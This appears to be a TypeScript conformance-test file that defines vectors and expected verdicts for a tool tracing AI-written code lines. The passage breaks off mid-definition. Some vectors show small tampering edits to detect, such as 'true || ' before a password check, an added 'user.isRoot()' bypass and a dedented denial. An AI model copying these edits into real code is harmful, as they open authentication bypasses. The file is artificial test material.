/**
 * The conformance vectors of the format's first version, and those that have nothing to do with its version, each with the verdict
 * that the rules of docs/evidence.md and docs/verdict.md give it. The verdicts are worked out by hand and never recorded from
 * what a reader said.
 */
import { digestNamed, idOf, type JsonObject, type MadeFile, marked } from "../support/evidenceMaker";
import {
  AREA,
  all,
  anchorFile,
  answer,
  BARE,
  batch,
  ENVIRONMENT_DIGEST,
  GOOD,
  GUARD,
  leaf,
  NOTHING,
  OTHER_REPOSITORY,
  PIN,
  pieces,
  plain,
  REPLAYABLE,
  REPOSITORY,
  SUM,
  suggestion,
  TIME,
} from "./samples";
import type { ExpectedChecks, ExpectedPiece, VectorCase, VectorExpectation } from "./vector";

/** A vector before its files are written. */
export interface Vector {
  readonly name: string;
  readonly case: VectorCase;
  readonly expected: VectorExpectation;
  /** Texts by path below `repository/`. */
  readonly files: ReadonlyMap<string, string>;
  /** The same of `base/`; `null` where there is none. */
  readonly base: ReadonlyMap<string, string> | null;
}

interface Draft {
  readonly rows?: readonly number[];
  readonly rules?: readonly string[];
  /** Today's sources. */
  readonly files: Readonly<Record<string, string>>;
  readonly evidence: readonly MadeFile[];
  /** Other files of `.proofline`, or copies of evidence. */
  readonly also?: Readonly<Record<string, string>>;
  readonly repositoryId?: string | null;
  readonly known?: VectorCase["known"];
  readonly grammarSaysSame?: boolean;
  readonly base?: readonly MadeFile[];
  readonly pieces?: readonly ExpectedPiece[];
  readonly broken?: VectorExpectation["broken"];
  readonly beside?: VectorExpectation["beside"];
  readonly gone?: VectorExpectation["gone"];
  readonly vanished?: VectorExpectation["vanished"];
  readonly problems?: readonly string[];
}

const found: Vector[] = [];
export const FIRST_VECTORS: readonly Vector[] = found;

function vector(name: string, about: string, draft: Draft): void {
  found.push(vectorOf(name, about, draft));
}

/** What a vector's folder holds. */
export function vectorOf(name: string, about: string, draft: Draft): Vector {
  const { repositoryId = REPOSITORY } = draft;
  const proofline = new Map<string, string>();
  if (repositoryId !== null) {
    proofline.set(`.proofline/repository/${repositoryId}.json`, `{\n  "id": "${repositoryId}"\n}\n`);
  }
  const files = new Map([...Object.entries(draft.files), ...proofline]);
  for (const file of draft.evidence) {
    files.set(pathOf(file), file.text);
  }
  for (const [path, text] of Object.entries(draft.also ?? {})) {
    files.set(path, text);
  }
  const base =
    draft.base === undefined
      ? null
      : new Map([
          ...Object.entries(draft.files),
          ...proofline,
          ...draft.base.map((file) => [pathOf(file), file.text] as const),
        ]);
  return {
    name,
    case: {
      about,
      rows: [...(draft.rows ?? [])],
      rules: [...(draft.rules ?? [])],
      known: draft.known ?? NOTHING,
      grammarSaysSame: draft.grammarSaysSame ?? null,
    },
    expected: {
      pieces: [...(draft.pieces ?? [])],
      broken: draft.broken ?? [],
      beside: draft.beside ?? [],
      gone: draft.gone ?? [],
      vanished: draft.vanished ?? [],
      problems: [...(draft.problems ?? [])],
    },
    files,
    base,
  };
}

export function pathOf({ batchRoot }: MadeFile): string {
  return `.proofline/evidence/${batchRoot}.json`;
}

/** A piece that has a place. Without lines it is an edited one, which a reader may point at as it likes. */
export function piece(
  claim: string,
  path: string,
  place: readonly [number, number, number, number] | null,
  summary: ExpectedPiece["summary"],
  checks: ExpectedChecks,
  {
    part = false,
    copiedFrom = null,
    number = 0,
  }: {
    readonly part?: boolean;
    readonly copiedFrom?: ExpectedPiece["copiedFrom"];
    readonly number?: number;
  } = {},
): ExpectedPiece {
  return {
    claim,
    piece: number,
    path,
    ...(place !== null && {
      lines: [place[0], place[2]] satisfies [number, number],
      columns: [place[1], place[3]] satisfies [number, number],
      part,
    }),
    checks,
    summary,
    copiedFrom,
  };
}

/** `[first line, first column, last line, column after the last unit]` */
export const SUM_PLACE = [3, 3, 7, 16] as const;
export const GUARD_PLACE = [2, 5, 4, 31] as const;
const AREA_PLACE = [5, 2, 6, 15] as const;

export const sum = batch([suggestion("sum", "src/sum.ts", SUM)]);
const guard = batch([suggestion("guard", "src/guard.py", GUARD)]);
const area = batch([suggestion("area", "src/area.go", AREA)]);
export const sumLeaf = leaf(sum, "sum");
const guardLeaf = leaf(guard, "guard");
const areaLeaf = leaf(area, "area");
export const SUM_FILE = { "src/sum.ts": plain(SUM) };
export const GUARD_FILE = { "src/guard.py": plain(GUARD) };
const EDITED = { content: "edited", prompt: "disclosed" } as const;

// Good

vector("good/verbatim", "A replayed and anchored claim whose lines stand as they were sealed.", {
  rules: ["place", "oneSpelling"],
  files: SUM_FILE,
  evidence: [sum],
  also: { [`.proofline/anchors/${sum.batchRoot}.8453.json`]: anchorFile(sum.batchRoot) },
  known: all([sum]),
  pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "verified", GOOD)],
});
vector(
  "good/begun-on-two-branches",
  "Two branches began and were merged: the repository has the ids of both.",
  {
    rules: ["identity"],
    files: SUM_FILE,
    evidence: [sum],
    also: { [`.proofline/repository/${OTHER_REPOSITORY}.json`]: `{\n  "id": "${OTHER_REPOSITORY}"\n}\n` },
    known: all([sum]),
    pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "verified", GOOD)],
  },
);
vector("hostile/damaged-id", "A file that holds no id costs itself, and not the id beside it.", {
  rules: ["identity"],
  files: SUM_FILE,
  evidence: [sum],
  also: { ".proofline/repository/0.json": "{}\n" },
  known: all([sum]),
  pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "verified", GOOD)],
  problems: [".proofline/repository/0.json"],
});
vector("good/crlf", "Line ends never count: the file has CRLF today.", {
  rules: ["lineEnds"],
  files: { "src/sum.ts": plain(SUM).replaceAll("\n", "\r\n") },
  evidence: [sum],
  pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "pending", BARE)],
});
vector("edited/carriage-returns", "Carriage returns alone end no line in every language, so they are text.", {
  rules: ["lineEnds"],
  files: { "src/sum.ts": plain(SUM).replaceAll("\n", "\r") },
  evidence: [sum],
  pieces: [piece(sumLeaf, "src/sum.ts", null, "pending", { ...BARE, ...EDITED })],
});
vector("good/byte-order-mark", "A byte order mark never counts.", {
  rules: ["lineEnds"],
  files: { "src/sum.ts": `\uFEFF${plain(SUM)}` },
  evidence: [sum],
  pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "pending", BARE)],
});

const GREETING = `const größe = "日本語 😀";
const gruß = «"👋🏽 नमस्ते" + größe»;
`;
const greeting = batch([suggestion("greeting", "src/grüße.ts", GREETING)]);
vector("good/not-ascii", "Columns are UTF-16 code units, and a path may hold any letter.", {
  rules: ["place", "units"],
  files: { "src/grüße.ts": plain(GREETING) },
  evidence: [greeting],
  // `const gruß = ` is 13 units; the quotes hold 4 + 1 + 6, the rest is ` + größe`: 13 + 8 = 21.
  pieces: [
    piece(leaf(greeting, "greeting"), "src/grüße.ts", [2, 14, 2, 35], "pending", BARE, { part: true }),
  ],
});

const first = marked("src/one.ts", "export const one = «firstValue(seed)»;\n");
const second = marked("src/two.ts", "«export function two(): number {\n  return 2;\n}»\n");
const enclave = batch([pieces("enclave", "attested", [first.piece, second.piece])]);
const enclaveLeaf = leaf(enclave, "enclave");
const ENCLAVE_FILES = { "src/one.ts": first.text, "src/two.ts": second.text };
const ENCLAVE_CHECKS = {
  ...GOOD,
  execution: "enclaveSigned",
  model: "unproved",
  environment: "attested",
  prompt: "sealed",
  copied: "unknown",
} as const;
vector("good/attested", "Two pieces of one answer that an enclave signed, in two files.", {
  rules: ["pieces"],
  files: ENCLAVE_FILES,
  evidence: [enclave],
  known: all([enclave], { replays: {}, enclaves: { [enclaveLeaf]: "enclaveSigned" } }),
  pieces: [
    piece(enclaveLeaf, "src/one.ts", [1, 20, 1, 36], "attested", ENCLAVE_CHECKS, { part: true }),
    piece(enclaveLeaf, "src/two.ts", [1, 1, 3, 2], "attested", ENCLAVE_CHECKS, { number: 1 }),
  ],
});
const REVOKED_SINCE = { ...ENCLAVE_CHECKS, environment: "attestedRevoked" } as const;
vector(
  "good/attested-and-revoked-since",
  "An enclave signed it whose code was approved then, and is not today.",
  {
    files: ENCLAVE_FILES,
    evidence: [enclave],
    known: all([enclave], { replays: {}, enclaves: { [enclaveLeaf]: "enclaveRevokedSince" } }),
    pieces: [
      piece(enclaveLeaf, "src/one.ts", [1, 20, 1, 36], "attested", REVOKED_SINCE, { part: true }),
      piece(enclaveLeaf, "src/two.ts", [1, 1, 3, 2], "attested", REVOKED_SINCE, { number: 1 }),
    ],
  },
);
const REBUILT = { ...ENCLAVE_CHECKS, environment: "attestedRebuilt" } as const;
vector(
  "good/attested-and-rebuilt",
  "An enclave signed it whose code somebody whom the policy names has rebuilt from its source.",
  {
    files: ENCLAVE_FILES,
    evidence: [enclave],
    known: all([enclave], { replays: {}, enclaves: { [enclaveLeaf]: "enclaveRebuilt" } }),
    pieces: [
      piece(enclaveLeaf, "src/one.ts", [1, 20, 1, 36], "attested", REBUILT, { part: true }),
      piece(enclaveLeaf, "src/two.ts", [1, 1, 3, 2], "attested", REBUILT, { number: 1 }),
    ],
  },
);
const UNCHECKED = {
  ...ENCLAVE_CHECKS,
  execution: "enclaveUnchecked",
  environment: "declaredUnknown",
} as const;
vector("good/attested-unchecked", "An enclave's answer that this reader has no means to check.", {
  files: ENCLAVE_FILES,
  evidence: [enclave],
  known: all([enclave], { replays: {} }),
  pieces: [
    piece(enclaveLeaf, "src/one.ts", [1, 20, 1, 36], "unverified", UNCHECKED, { part: true }),
    piece(enclaveLeaf, "src/two.ts", [1, 1, 3, 2], "unverified", UNCHECKED, { number: 1 }),
  ],
});
const stated = batch([pieces("agent", "stated", [first.piece, second.piece])]);
const statedLeaf = leaf(stated, "agent");
const STATED_CHECKS = {
  ...GOOD,
  execution: "stated",
  model: "unproved",
  prompt: "sealed",
  copied: "unknown",
} as const;
vector(
  "good/stated",
  "Two pieces that an agent says it wrote; a replay that somebody claims of it counts for nothing.",
  {
    rules: ["pieces"],
    files: ENCLAVE_FILES,
    evidence: [stated],
    known: all([stated]),
    pieces: [
      piece(statedLeaf, "src/one.ts", [1, 20, 1, 36], "stated", STATED_CHECKS, { part: true }),
      piece(statedLeaf, "src/two.ts", [1, 1, 3, 2], "stated", STATED_CHECKS, { number: 1 }),
    ],
  },
);

const PARTLY = "export const limit = «Math.max(minimum, requested)» + reserve;\n";
const partly = batch([suggestion("partly", "src/limit.ts", PARTLY)]);
vector(
  "good/part-of-a-line",
  "The model wrote a part of a line that a person wrote: verified, and said to be a part.",
  {
    rules: ["part"],
    files: { "src/limit.ts": plain(PARTLY) },
    evidence: [partly],
    known: all([partly]),
    pieces: [piece(leaf(partly, "partly"), "src/limit.ts", [1, 22, 1, 50], "verified", GOOD, { part: true })],
  },
);

const wordsSaved = "  return alpha.combine(beta);\n";
const words = batch([
  suggestion("word one", "src/words.ts", wordsSaved.replace("return alpha.", "«return alpha.»")),
  suggestion("word two", "src/words.ts", wordsSaved.replace("combine(beta);", "«combine(beta);»")),
]);
vector(
  "good/word-by-word",
  "Two claims share a line and leave nothing of it to a person, so neither is a part.",
  {
    rules: ["part"],
    files: { "src/words.ts": wordsSaved },
    evidence: [words],
    known: all([words]),
    pieces: [
      piece(leaf(words, "word one"), "src/words.ts", [1, 3, 1, 16], "verified", GOOD),
      piece(leaf(words, "word two"), "src/words.ts", [1, 16, 1, 30], "verified", GOOD),
    ].sort((one, other) => (one.claim < other.claim ? -1 : 1)),
  },
);

const sealedPrompt = batch([suggestion("sealed", "src/sum.ts", SUM, { open: false })]);
const SEALED = { ...GOOD, execution: "impossible", prompt: "sealed", copied: "unknown" } as const;
vector("good/sealed-prompt", "The prompt stays with its author, so nobody else can replay it.", {
  rules: ["sealedPrompt"],
  files: SUM_FILE,
  evidence: [sealedPrompt],
  known: all([sealedPrompt], { replays: {} }),
  pieces: [piece(leaf(sealedPrompt, "sealed"), "src/sum.ts", SUM_PLACE, "anchored", SEALED)],
});

const withheld = batch([suggestion("withheld", "src/sum.ts", SUM, { travels: false })]);
const withheldLeaf = leaf(withheld, "withheld");
vector("good/withheld-lines", "The whole lines do not travel; their digests speak.", {
  rules: ["digestsOnly"],
  files: SUM_FILE,
  evidence: [withheld],
  known: all([withheld]),
  pieces: [piece(withheldLeaf, "src/sum.ts", SUM_PLACE, "verified", GOOD)],
});
vector("good/withheld-moved", "Lines of which only digests travel are found one line below.", {
  rules: ["digestsOnly", "moved"],
  files: { "src/sum.ts": `// New.\n${plain(SUM)}` },
  evidence: [withheld],
  known: all([withheld]),
  pieces: [piece(withheldLeaf, "src/sum.ts", [4, 3, 8, 16], "verified", { ...GOOD, content: "moved" })],
});
const PROSE = `def total(numbers):
    """Adds numbers.

    «Every number counts once, in the order given.»
    """
    return sum(numbers)
`;
const prose = batch([suggestion("prose", "src/total.py", PROSE, { textParts: [[0, 38, '"""']] })]);
const proseLeaf = leaf(prose, "prose");
vector("good/in-a-docstring", "A line that stood in a docstring when it was sealed, and does today.", {
  rows: [3],
  rules: ["enclosed"],
  files: { "src/total.py": plain(PROSE) },
  evidence: [prose],
  known: all([prose]),
  pieces: [piece(proseLeaf, "src/total.py", [4, 5, 4, 50], "verified", GOOD)],
});
vector(
  "edited/out-of-a-docstring",
  "A line that stood in a docstring when it was sealed, and is code today.",
  {
    rows: [3],
    rules: ["enclosed"],
    files: {
      "src/total.py": plain(PROSE).replace("\n\n", '"""\n\n').replace('    """\n    return', "    return"),
    },
    evidence: [prose],
    known: all([prose]),
    pieces: [piece(proseLeaf, "src/total.py", null, "edited", { ...GOOD, ...EDITED })],
  },
);
vector("edited/in-another-string", "The docstring became a format string, which holds code.", {
  rows: [3],
  rules: ["enclosed"],
  files: { "src/total.py": plain(PROSE).replace('"""Adds', 'f"""Adds') },
  evidence: [prose],
  known: all([prose]),
  pieces: [piece(proseLeaf, "src/total.py", null, "edited", { ...GOOD, ...EDITED })],
});
vector("good/moved", "The same lines at one other place.", {
  rules: ["moved"],
  files: { "src/sum.ts": `// New.\n${plain(SUM)}` },
  evidence: [sum],
  known: all([sum]),
  pieces: [piece(sumLeaf, "src/sum.ts", [4, 3, 8, 16], "verified", { ...GOOD, content: "moved" })],
});
vector("good/moved-file", "The file was renamed, and one other file of its kind holds the lines.", {
  rules: ["movedFile"],
  files: { "lib/total.ts": plain(SUM), "lib/other.ts": "export {};\n" },
  evidence: [sum],
  known: all([sum]),
  pieces: [piece(sumLeaf, "lib/total.ts", SUM_PLACE, "verified", { ...GOOD, content: "moved" })],
});

const BOX = `export class Box {
  private size = 9;
  clear(): void {
    «this.size = 0;»
  }
}
`;
const box = batch([suggestion("box", "src/box.ts", BOX)]);
vector(
  "good/moved-after-its-lines",
  "A short line stands at two other places; the lines before it tell which is its own.",
  {
    rules: ["movedAfterContext"],
    files: {
      "src/box.ts": `// New.
export class Box {
  private size = 9;
  clear(): void {
    this.size = 0;
  }
  reset(): void {
    this.size = 0;
  }
}
`,
    },
    evidence: [box],
    known: all([box]),
    pieces: [
      piece(leaf(box, "box"), "src/box.ts", [5, 5, 5, 19], "verified", {
        ...GOOD,
        content: "moved",
        prompt: "disclosed",
      }),
    ],
  },
);

vector(
  "good/reformatted-typescript",
  "The file is indented by four blanks today, which means nothing in TypeScript.",
  {
    rules: ["reformatted"],
    files: { "src/sum.ts": plain(SUM).replace(/^ +/gm, (blanks) => blanks + blanks) },
    evidence: [sum],
    known: all([sum]),
    grammarSaysSame: true,
    pieces: [
      piece(sumLeaf, "src/sum.ts", [3, 5, 7, 18], "verified", {
        ...GOOD,
        content: "reformatted",
        prompt: "disclosed",
      }),
    ],
  },
);
vector("good/reformatted-python", "Trailing blanks mean nothing in Python outside of strings.", {
  rules: ["reformatted"],
  files: { "src/guard.py": plain(GUARD).replace("is_admin:", "is_admin:   ") },
  evidence: [guard],
  known: all([guard]),
  grammarSaysSame: true,
  pieces: [piece(guardLeaf, "src/guard.py", GUARD_PLACE, "verified", { ...GOOD, content: "reformatted" })],
});
vector("good/reformatted-go", "Blanks between tokens mean nothing in Go.", {
  rules: ["reformatted"],
  files: { "src/area.go": plain(AREA).replace(" := ", "  :=  ") },
  evidence: [area],
  known: all([area]),
  grammarSaysSame: true,
  pieces: [piece(areaLeaf, "src/area.go", AREA_PLACE, "verified", { ...GOOD, content: "reformatted" })],
});

const formattedText = plain(SUM).replace("let total = 0;", "let  total  =  0;");
const formatted = batch([
  suggestion("formatted", "src/sum.ts", SUM, {
    pieces: [
      {
        ...marked("src/sum.ts", SUM).piece,
        saved: formattedText.split("\n").slice(2, 7),
      },
    ],
  }),
]);
vector(
  "good/formatted-before-sealing",
  "A formatter changed blanks between acceptance and sealing; the lines stand as sealed.",
  {
    rules: ["reformattedBeforeSealing"],
    files: { "src/sum.ts": formattedText },
    evidence: [formatted],
    known: all([formatted]),
    grammarSaysSame: true,
    pieces: [
      piece(leaf(formatted, "formatted"), "src/sum.ts", SUM_PLACE, "verified", {
        ...GOOD,
        content: "reformatted",
      }),
    ],
  },
);

const stripped = batch([suggestion("sum", "src/sum.ts", SUM)], {
  bendOpenings: (openings) => {
    openings.prompts = null;
  },
});
vector(
  "good/stripped-copy",
  "Of two copies of one claim the open one counts, whatever the files are called.",
  {
    rows: [16],
    rules: ["copies", "fileNames"],
    files: SUM_FILE,
    evidence: [],
    also: { ".proofline/evidence/0.json": sum.text, ".proofline/evidence/z.json": stripped.text },
    known: all([sum]),
    pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "verified", GOOD)],
  },
);
vector(
  "good/local-chain",
  "On a developer's own chain, which its owner controls, and not in a final block.",
  {
    files: SUM_FILE,
    evidence: [sum],
    known: all([sum], { chain: { [sum.batchRoot]: answer("included", { trust: "local" }) } }),
    pieces: [
      piece(sumLeaf, "src/sum.ts", SUM_PLACE, "verified", {
        ...GOOD,
        anchor: "included",
        anchorTrust: "local",
      }),
    ],
  },
);
vector("good/quorum", "The servers of two operators agree on the anchor.", {
  files: SUM_FILE,
  evidence: [sum],
  known: all([sum], { chain: { [sum.batchRoot]: answer("finalized", { trust: "quorum" }) } }),
  pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "verified", { ...GOOD, anchorTrust: "quorum" })],
});
vector(
  "good/state-proof",
  "A proof of the chain's state shows the anchor, in a block that two operators report.",
  {
    files: SUM_FILE,
    evidence: [sum],
    known: all([sum], { chain: { [sum.batchRoot]: answer("finalized", { trust: "stateProof" }) } }),
    pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "verified", { ...GOOD, anchorTrust: "stateProof" })],
  },
);
vector("good/offline-proof", "Without a network, a proof shows it in a block that was confirmed before.", {
  files: SUM_FILE,
  evidence: [sum],
  known: all([sum], { chain: { [sum.batchRoot]: answer("finalized", { trust: "offlineProof" }) } }),
  pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "verified", { ...GOOD, anchorTrust: "offlineProof" })],
});
vector("good/within-tolerance", "The replay came near enough, by what the pin forgives.", {
  files: SUM_FILE,
  evidence: [sum],
  known: all([sum], { replays: { [sumLeaf]: "withinTolerance" } }),
  pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "verified", { ...GOOD, execution: "withinTolerance" })],
});
vector("good/approved", "An authority approves the model and the environment that the device states.", {
  files: SUM_FILE,
  evidence: [sum],
  known: all([sum], {
    approvedModels: [PIN.manifestDigest],
    approvedEnvironments: [ENVIRONMENT_DIGEST],
  }),
  pieces: [
    piece(sumLeaf, "src/sum.ts", SUM_PLACE, "verified", {
      ...GOOD,
      model: "approved",
      environment: "declaredApproved",
    }),
  ],
});
vector("good/verifier-replayed", "A verifier whose word counts has replayed it, and nobody here.", {
  files: SUM_FILE,
  evidence: [sum],
  known: all([sum], { replays: {}, verifierReplays: [sumLeaf] }),
  pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "verified", { ...GOOD, execution: "verifierReplayed" })],
});
vector(
  "hostile/verifier-contradicted",
  "A verifier says that it has replayed it, and here it does not match.",
  {
    files: SUM_FILE,
    evidence: [sum],
    known: all([sum], { replays: { [sumLeaf]: "mismatch" }, verifierReplays: [sumLeaf] }),
    pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "failed", { ...GOOD, execution: "mismatch" })],
  },
);
vector("good/not-replayed", "Nobody here has replayed it, and the device belongs to somebody unknown.", {
  files: SUM_FILE,
  evidence: [sum],
  known: all([sum], { replays: {}, devices: [] }),
  pieces: [
    piece(sumLeaf, "src/sum.ts", SUM_PLACE, "anchored", {
      ...GOOD,
      execution: "notRun",
      signature: "unknownDevice",
    }),
  ],
});

const next = batch([suggestion("guard", "src/guard.py", GUARD)], {
  sequence: 7,
  previousSeal: digestNamed("elsewhere"),
});
vector("good/gap-in-the-sequence", "A device's other batches lie in other repositories: a gap is no fault.", {
  rules: ["sequence"],
  files: { ...SUM_FILE, ...GUARD_FILE },
  evidence: [sum, next],
  known: all([sum, next]),
  pieces: [
    piece(leaf(next, "guard"), "src/guard.py", GUARD_PLACE, "verified", GOOD),
    piece(sumLeaf, "src/sum.ts", SUM_PLACE, "verified", GOOD),
  ],
});

// Edited

/** The verdict on a claim whose lines were changed, for a reader who knows all. */
function edited(
  name: string,
  about: string,
  draft: {
    readonly rows?: readonly number[];
    readonly path: keyof typeof PLAIN;
    readonly change: readonly [string, string];
    readonly grammarSaysSame?: boolean;
  },
): void {
  const { path, change, rows = [] } = draft;
  const { file, name: claim, text } = PLAIN[path];
  const today = text.replace(change[0], () => change[1]);
  if (today === text) {
    throw new Error(`${name} changes nothing`);
  }
  vector(`edited/${name}`, about, {
    rows,
    rules: ["edited"],
    files: { [path]: today },
    evidence: [file],
    known: all([file]),
    ...(draft.grammarSaysSame !== undefined && { grammarSaysSame: draft.grammarSaysSame }),
    pieces: [piece(leaf(file, claim), path, null, "edited", { ...GOOD, ...EDITED })],
  });
}

const COMPARE = `export function check(password: string, expected: string): boolean {
  if («password.normalize() == expected.normalize()») {
    return true;
  }
  return false;
}
`;
const compare = batch([suggestion("compare", "src/check.ts", COMPARE)]);
const ANSWER = `export function read(flag: boolean): boolean {
  «return isGranted(flag)»;
}
`;
const answered = batch([suggestion("answered", "src/read.ts", ANSWER)]);
const TEXT = `title = "x"
«message = "wait  a moment, please"
notify(message)»
`;
const said = batch([suggestion("said", "src/say.py", TEXT)]);
const PLAIN = {
  "src/sum.ts": { file: sum, name: "sum", text: plain(SUM) },
  "src/guard.py": { file: guard, name: "guard", text: plain(GUARD) },
  "src/area.go": { file: area, name: "area", text: plain(AREA) },
  "src/check.ts": { file: compare, name: "compare", text: plain(COMPARE) },
  "src/read.ts": { file: answered, name: "answered", text: plain(ANSWER) },
  "src/say.py": { file: said, name: "said", text: plain(TEXT) },
} as const;

edited("one-character-inside", "One character was changed: `0` became `1`.", {
  path: "src/sum.ts",
  change: ["total = 0", "total = 1"],
});
edited("put-before", "`true || ` was put before, on the line that the piece begins in.", {
  rows: [3],
  path: "src/check.ts",
  change: ["(password.", "(true || password."],
});
edited("put-after", "` || user.isRoot()` was put after, on the line that the piece ends in.", {
  rows: [3],
  path: "src/check.ts",
  change: [".normalize()) {", ".normalize() || user.isRoot()) {"],
});
edited("operator", "`==` became `!==`.", { rows: [3], path: "src/check.ts", change: [" == ", " !== "] });
edited("one-character-after", "`False` would become `Falsey` like this: one letter after the piece.", {
  rows: [3],
  path: "src/read.ts",
  change: ["(flag);", "(flag)y;"],
});
edited("negated", "`return ` became `return !`.", {
  rows: [3],
  path: "src/read.ts",
  change: ["return is", "return !is"],
});
edited("commented-out", "A line was commented out.", {
  rows: [3],
  path: "src/read.ts",
  change: ["  return isGranted", "  // return isGranted"],
});
edited("in-a-string", "The text stands inside of a string today.", {
  rows: [3],
  path: "src/read.ts",
  change: ["  return isGranted(flag);", '  log("return isGranted(flag);");'],
});
edited("line-between", "A line was put between.", {
  path: "src/sum.ts",
  change: ["    total += value;\n", "    total += value;\n    send(value);\n"],
});
edited("line-deleted", "A line was deleted.", {
  path: "src/guard.py",
  change: ['        return "denied"\n', ""],
});
edited("lines-swapped", "Two lines were swapped.", {
  path: "src/guard.py",
  change: [
    '        return "denied"\n    delete_everything(request)',
    '    delete_everything(request)\n        return "denied"',
  ],
});
edited("dedented", "A line was taken out of the guard by its indentation alone.", {
  rows: [4],
  path: "src/guard.py",
  change: ['        return "denied"', '    return "denied"'],
  grammarSaysSame: false,
});
edited("words-joined", "`return isGranted` became one word.", {
  rows: [4],
  path: "src/read.ts",
  change: ["return is", "returnis"],
  grammarSaysSame: false,
});
edited(
  "line-separator",
  "U+2028 ends a line in TypeScript, so nothing is returned; it is no white space here.",
  {
    rows: [4],
    path: "src/read.ts",
    change: ["return is", "return\u2028is"],
  },
);
edited("no-break-space", "A no-break space is text.", {
  rows: [4],
  path: "src/read.ts",
  change: ["return is", "return\u00a0is"],
});
edited("form-feed", "A form feed is text: in Python it sets the indentation back.", {
  rows: [4],
  path: "src/guard.py",
  change: ['        return "denied"', '\f        return "denied"'],
});
edited("operator-apart", "`==` became `= =`, which is an error.", {
  rows: [4],
  path: "src/check.ts",
  change: [" == ", " = = "],
  grammarSaysSame: false,
});
edited("blank-in-a-string", "A blank inside of a string was taken away.", {
  rows: [4],
  path: "src/say.py",
  change: ["wait  a", "wait a"],
  grammarSaysSame: false,
});
edited("broken-by-a-formatter", "A formatter broke the line, and put parentheses around the condition.", {
  path: "src/check.ts",
  change: [
    "if (password.normalize() == expected.normalize()) {",
    "if (\n    (password.normalize() ==\n      expected.normalize())\n  ) {",
  ],
});
edited("line-end-after-return", "A line end after `return` ends the statement, so nothing is returned.", {
  rows: [4],
  path: "src/read.ts",
  change: ["return is", "return\n  is"],
  grammarSaysSame: false,
});

const NEGATIVE = `export function debit(amount: number): number {
  «return -Math.abs(amount)»;
}
`;
const negative = batch([suggestion("negative", "src/debit.ts", NEGATIVE)]);
vector(
  "edited/line-end-before-minus",
  "A line end after `return` ends the statement also where what follows could go on with it.",
  {
    rows: [4],
    rules: ["edited"],
    files: { "src/debit.ts": plain(NEGATIVE).replace("return -", "return\n  -") },
    evidence: [negative],
    known: all([negative]),
    grammarSaysSame: false,
    pieces: [piece(leaf(negative, "negative"), "src/debit.ts", null, "edited", { ...GOOD, ...EDITED })],
  },
);
vector(
  "edited/reader-who-knows-nothing",
  "Without a chain, a pin or a replay an edited claim is pending, and said to be edited.",
  {
    rules: ["edited"],
    files: { "src/sum.ts": plain(SUM).replace("total = 0", "total = 1") },
    evidence: [sum],
    pieces: [piece(sumLeaf, "src/sum.ts", null, "pending", { ...BARE, ...EDITED })],
  },
);
vector("edited/withheld-lines", "Lines of which only digests travel do not stand any more.", {
  rules: ["digestsOnly", "edited"],
  files: { "src/sum.ts": plain(SUM).replace("total += value", "total += values") },
  evidence: [withheld],
  known: all([withheld]),
  pieces: [piece(withheldLeaf, "src/sum.ts", null, "edited", { ...GOOD, ...EDITED })],
});

const changedText = plain(SUM).replace("let total = 0;", "let total = 1;");
const changed = batch([
  suggestion("changed", "src/sum.ts", SUM, {
    pieces: [{ ...marked("src/sum.ts", SUM).piece, saved: changedText.split("\n").slice(2, 7) }],
  }),
]);
vector(
  "edited/before-sealing",
  "A person changed the text before it was sealed: the lines stand, and do not hold what was accepted.",
  {
    rules: ["editedBeforeSealing"],
    files: { "src/sum.ts": changedText },
    evidence: [changed],
    known: all([changed]),
    pieces: [piece(leaf(changed, "changed"), "src/sum.ts", null, "edited", { ...GOOD, ...EDITED })],
  },
);
vector("edited/gone", "Nothing of the text is left in its file.", {
  rules: ["gone"],
  files: { "src/sum.ts": "export const nothing = 0;\n" },
  evidence: [sum],
  gone: [{ claim: sumLeaf, path: "src/sum.ts" }],
});
vector("edited/file-gone", "Its file is gone, and no other holds its lines.", {
  rules: ["gone", "movedFile"],
  files: { "src/other.ts": "export const nothing = 0;\n" },
  evidence: [sum],
  gone: [{ claim: sumLeaf, path: "src/sum.ts" }],
});

/** Lines that stand whole inside of text that begins above them. */
function enclosed(name: string, path: string, file: MadeFile, text: string): void {
  const [hash = ""] = file.leaves.values();
  vector(`edited/${name}`, "Its lines stand whole, inside of a comment or string that begins above them.", {
    rows: [3],
    rules: ["enclosed"],
    files: { [path]: text },
    evidence: [file],
    known: all([file]),
    pieces: [piece(hash, path, null, "edited", { ...GOOD, ...EDITED })],
  });
}
enclosed(
  "in-a-comment-above",
  "src/sum.ts",
  sum,
  plain(SUM)
    .replace(/(?= {2}let)/, "/*\n")
    .replace(/(?=\}\n$)/, "*/\n"),
);
enclosed(
  "in-a-template-above",
  "src/sum.ts",
  sum,
  plain(SUM)
    .replace(/(?= {2}let)/, "log(`\n")
    .replace(/(?=\}\n$)/, "`);\n"),
);
enclosed(
  "in-a-docstring-above",
  "src/guard.py",
  guard,
  plain(GUARD)
    .replace(/(?= {4}if)/, '    """\n')
    .replace(/(?= {4}return "done")/, '    """\n'),
);

const TOTAL = "const start = 1;\n«const total = computeTotal(start);»\nconst end = 2;\n";
const total = batch([suggestion("total", "src/total.ts", TOTAL, { open: false })]);
vector("edited/ambiguous", "The line stands at two other places, and nothing tells which is its own.", {
  rules: ["ambiguous"],
  files: {
    "src/total.ts": `const a = 1;
const b = 2;
const total = computeTotal(start);
const c = 3;
const total = computeTotal(start);
`,
  },
  evidence: [total],
  known: all([total], { replays: {} }),
  pieces: [
    {
      claim: leaf(total, "total"),
      piece: 0,
      path: "src/total.ts",
      lines: null,
      columns: null,
      part: true,
      checks: { ...SEALED, content: "ambiguous" },
      summary: "unknown",
      copiedFrom: null,
    },
  ],
});

const TWICE = `export class Registry {
  clear(): void {
    this.entries.clear();
  }
  clearAll(): void {
    «this.entries.clear();»
  }
  size = 0;
}
`;
const twice = batch([suggestion("twice", "src/registry.ts", TWICE)]);
const twiceLeaf = leaf(twice, "twice");
const [ONE_CLEAR, OTHER_CLEAR] = [
